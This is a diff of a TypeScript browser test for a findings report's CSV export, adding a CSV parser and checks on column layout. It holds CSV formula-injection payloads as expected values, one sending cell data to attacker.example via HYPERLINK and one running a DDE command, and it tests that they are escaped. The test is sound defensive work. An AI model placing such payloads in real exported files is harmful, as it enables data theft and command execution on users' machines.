@@ -50,6 +50,36 @@ interface BrowserGlobals {
   location: { hash: string };
 }
 
+/** RFC 4180: rows of cells, quoted cells with doubled quotes, CRLF between rows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const character = text[index]!;
+    if (quoted) {
+      if (character === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index += 1;
+      } else if (character === '"') quoted = false;
+      else cell += character;
+    } else if (character === '"') quoted = true;
+    else if (character === ',') {
+      cells.push(cell);
+      cell = '';
+    } else if (character === '\r' && text[index + 1] === '\n') {
+      cells.push(cell);
+      rows.push(cells);
+      cells = [];
+      cell = '';
+      index += 1;
+    } else cell += character;
+  }
+  if (cell !== '' || cells.length > 0) rows.push([...cells, cell]);
+  return rows;
+}
+
 interface Opened {
   page: Page;
   problems: string[];
@@ -232,16 +262,22 @@ describe.skipIf(process.env.SKIP_BROWSER_TESTS === '1')('report.html of the demo
     expect(download.suggestedFilename()).toBe('trailwarden-findings.csv');
     const csv = readFileSync(await download.path(), 'utf8');
     expect(network).toEqual([]);
-    expect(csv.startsWith('\ufeffstatus,severity,rule_id,rule_title,account_id,account_name,region,resource_type,resource,resource_name,message,controls,suppressed\r\n')).toBe(true);
-    const lines = csv.slice(1).trimEnd().split('\r\n');
+    // The columns of results.csv (--format csv) that the page has, under the same names.
+    expect(csv.startsWith('\ufeffrule_id,rule_title,status,severity,account_id,account_name,region,resource_type,resource_arn,resource_name,message,frameworks,suppressed,suppression_reason,suppression_expires\r\n')).toBe(true);
+    const rows = parseCsv(csv.slice(1));
     const failing = hostile.findings.filter((f) => f.status === 'fail');
-    expect(lines.length - 1).toBe(failing.length);
-    expect(lines.slice(1).every((line) => line.startsWith('fail,'))).toBe(true);
-    const row = lines.find((line) => line.includes('HYPERLINK'))!;
-    expect(row).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")"`);
-    expect(row).toContain(`"'+cmd|"" /C calc""!A0"`);
+    expect(rows.length - 1).toBe(failing.length);
+    expect(rows.every((cells) => cells.length === 15)).toBe(true);
+    expect(rows.slice(1).map((cells) => cells[2])).toEqual(failing.map(() => 'fail'));
+    const row = rows.find((cells) => cells.some((cell) => cell.includes('HYPERLINK')))!;
+    expect(row[10]).toBe(`'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
+    expect(row[9]).toBe(`'+cmd|" /C calc"!A0`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")"`);
     // No cell of the file starts a formula.
-    for (const line of lines) for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // An account's row carries its ARN: the export is data, not the page's wording.
+    const accountFinding = failing.find((f) => f.resource.type === 'account');
+    if (accountFinding) expect(rows.map((cells) => cells[8])).toContain(accountFinding.resource.arn);
   });
 
   it('follows prefers-color-scheme: dark', async () => {
